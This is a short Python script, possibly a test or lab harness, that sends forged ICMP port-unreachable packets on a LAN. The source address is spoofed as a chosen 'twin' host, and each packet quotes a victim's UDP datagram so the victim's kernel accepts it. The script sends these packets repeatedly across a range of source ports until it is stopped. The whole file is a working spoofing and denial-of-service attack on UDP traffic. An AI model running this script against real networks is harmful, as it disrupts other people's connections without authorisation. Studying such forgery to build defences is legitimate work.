#!/usr/bin/env python3
"""A rogue LAN host's forged ICMP port unreachable (type 3, code 3), as seen by a box that sent
UDP from VICTIM:SPORT to TWIN:DPORT: the outer source is spoofed to TWIN, and the quoted header
names the victim's datagram, which is all the victim's kernel matches the error against (nothing
authenticates ICMP). Sends one error per source port of SPORTS every INTERVAL_MS until killed,
and prints "sending" once the first burst is out.

usage: forge-icmp.py TWIN VICTIM DPORT SPORT_FIRST SPORT_LAST INTERVAL_MS (fractions allowed)
"""
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip_header(src: str, dst: str, proto: int, payload_len: int) -> bytes:
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, 0x1234, 0, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", checksum(h)) + h[12:]


def forged(twin: str, victim: str, sport: int, dport: int) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + 40, 0)
    quoted = ip_header(victim, twin, socket.IPPROTO_UDP, 8 + 40) + udp
    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    return ip_header(twin, victim, socket.IPPROTO_ICMP, len(icmp)) + icmp


def main() -> None:
    twin, victim, dport, first, last, interval_ms = sys.argv[1:7]
    packets = [forged(twin, victim, p, int(dport)) for p in range(int(first), int(last) + 1)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    told = False
    while True:
        for pkt in packets:
            s.sendto(pkt, (victim, 0))
        if not told:
            print("sending", flush=True)
            told = True
        time.sleep(float(interval_ms) / 1000)


if __name__ == "__main__":
    main()
